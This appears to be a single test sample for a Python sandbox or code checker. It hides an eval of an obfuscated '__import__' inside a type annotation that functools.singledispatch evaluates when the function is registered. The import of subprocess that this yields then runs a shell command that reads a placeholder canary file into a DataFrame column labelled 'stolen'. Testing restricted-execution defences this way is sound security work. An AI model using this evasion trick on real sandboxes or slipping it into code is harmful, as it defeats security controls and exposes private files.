# class: module_reach
# technique: functools.singledispatch().register reads the new function's first annotation with typing.get_type_hints: the annotation imports subprocess while the decorator runs
# goal: exec
import functools

import numpy as np
import pandas as pd

loaded = []
name = "_" * 2 + "import" + "_" * 2


@functools.singledispatch
def summarise(value):
    return value


@summarise.register
def summarise_int(value: "[loaded.append(eval(name)('subprocess')), int][-1]"):
    return value


sp = loaded[0]
df = pd.DataFrame({"stolen": [sp.getoutput("cat {{CANARY_FILE}}")]})
